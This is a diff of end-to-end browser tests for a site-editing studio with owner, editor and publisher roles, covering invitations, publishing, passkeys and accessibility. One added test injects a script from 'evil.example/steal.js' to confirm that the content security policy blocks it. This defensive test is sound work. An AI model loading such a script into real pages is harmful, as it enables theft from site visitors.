@@ -133,16 +133,14 @@ describe('a site in a repository of this machine', () => {
 
   test('is written by an editor, shown by a link, and put online by a publisher', async () => {
     const link = await project.studio.ownerLink('maria@example.com');
-    await using owner = await joinBy(link ?? '', 'Maria');
-    expect(await project.studio.ownerLink('maria@example.com')).toBeUndefined();
+    await using owner = await joinBy(link, 'Maria');
     await using editor = await joinBy(await invite(owner.page, 'Ben', ['Editor']), 'Ben');
     await using publisher = await joinBy(await invite(owner.page, 'Pia', ['Publisher']), 'Pia');
     const online = await project.home();
 
     await writeHeading(editor.page, 'Tea and cake');
-    expect(await publish(editor.page, 'Cake, too')).toContain(
-      'Ask somebody with the role Publisher',
-    );
+    await editor.page.locator('site-editor').getByRole('tab', { name: 'Changes' }).click();
+    await editor.page.getByText('Somebody with the role Publisher puts this online.').waitFor();
     expect(await project.home()).toBe(online);
 
     // Nobody else sees it, except by a link, and then without anything of the editor.
@@ -164,7 +162,7 @@ describe('a site in a repository of this machine', () => {
 
     await publisher.page.goto('/__studio');
     const row = publisher.page.getByRole('row', { name: /^Ben/ });
-    expect(await row.innerText()).toContain('Changes in 1 file');
+    expect(await row.innerText()).toContain('unpublished changes in 1 file');
     await row.getByRole('button', { name: 'Work in it' }).click();
     await publisher.page.locator('h1', { hasText: 'Tea and cake' }).waitFor();
     await publisher.page
@@ -193,7 +191,7 @@ describe('a site in a repository of this machine', () => {
 
   test('lets nobody do by a crooked address what they may not do by a straight one', async () => {
     const link = await project.studio.ownerLink('olga@example.com');
-    await using owner = await joinBy(link ?? '', 'Olga');
+    await using owner = await joinBy(link, 'Olga');
     await using editor = await joinBy(await invite(owner.page, 'Eva', ['Editor']), 'Eva');
     await writeHeading(editor.page, 'Nobody has published this');
     const token = await editor.page.locator('script[data-token]').getAttribute('data-token');
@@ -239,9 +237,26 @@ describe('a site in a repository of this machine', () => {
     expect(await project.home()).toBe(online);
   });
 
+  test('runs no script of others in a draft', async () => {
+    const link = await project.studio.ownerLink('otto@example.com');
+    await using owner = await joinBy(link, 'Otto');
+    const { page } = owner;
+    await page.goto('/');
+    const refused = await page.evaluate(async () => {
+      const blocked = new Promise<string>((seen) => {
+        document.addEventListener('securitypolicyviolation', ({ blockedURI }) => seen(blockedURI));
+      });
+      const script = document.createElement('script');
+      script.src = 'https://evil.example/steal.js';
+      document.head.append(script);
+      return blocked;
+    });
+    expect(refused).toContain('evil.example');
+  });
+
   test('is entered with a passkey in place of a password', async () => {
     const link = await project.studio.ownerLink('paula@example.com');
-    await using visit = await joinBy(link ?? '', 'Paula');
+    await using visit = await joinBy(link, 'Paula');
     const { page, problems } = visit;
     const device = await page.context().newCDPSession(page);
     await device.send('WebAuthn.enable');
@@ -270,7 +285,7 @@ describe('a site in a repository of this machine', () => {
 
   test('is clean for axe on wide screens and phones', async () => {
     const link = await project.studio.ownerLink('ola@example.com');
-    await using visit = await joinBy(link ?? '', 'Ola');
+    await using visit = await joinBy(link, 'Ola');
     const { page } = visit;
     for (const width of [1280, 390]) {
       await page.setViewportSize({ width, height: 900 });
@@ -299,7 +314,7 @@ describe('a site that is built elsewhere', () => {
 
   test('is published by sending it to the branch that it is built from', async () => {
     const link = await project.studio.ownerLink('maria@example.com');
-    await using owner = await joinBy(link ?? '', 'Maria');
+    await using owner = await joinBy(link, 'Maria');
     await writeHeading(owner.page, 'Tea and cake');
     expect(await publish(owner.page, 'Cake, too')).toBe('Published to origin/main.');
     project.git('fetch', '--quiet');
